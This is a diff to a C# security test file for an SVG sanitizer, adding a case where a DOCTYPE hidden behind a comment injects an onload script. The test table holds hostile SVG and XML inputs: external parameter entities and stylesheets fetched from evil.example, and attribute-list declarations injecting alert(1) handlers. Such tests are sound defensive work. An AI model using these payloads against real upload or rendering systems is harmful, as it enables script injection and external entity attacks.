@@ -76,6 +76,7 @@ public sealed class SvgSafetyTests(SqliteApiFixture fixture)
         { "parameter entity", $"""<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><svg {Ns}/>""" },
         { "doctype internal subset without entities", $"""<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg {Ns}/>""" },
         { "doctype internal subset after a quoted '>'", $"""<!DOCTYPE svg PUBLIC "-//x>y//EN" "x.dtd" [<!ATTLIST svg onload CDATA "alert(1)">]><svg {Ns}/>""" },
+        { "doctype internal subset behind a doctype in a comment", $"""<!-- <!DOCTYPE svg> --><!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg {Ns}/>""" },
         { "undeclared entity", $"""<svg {Ns}><text>&undefined;</text></svg>""" },
         { "xml-stylesheet", $"""<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.css" type="text/css"?><svg {Ns}/>""" },
         { "xml-stylesheet with xslt", $"""<?xml-stylesheet type="text/xsl" href="#x"?><svg {Ns}/>""" },
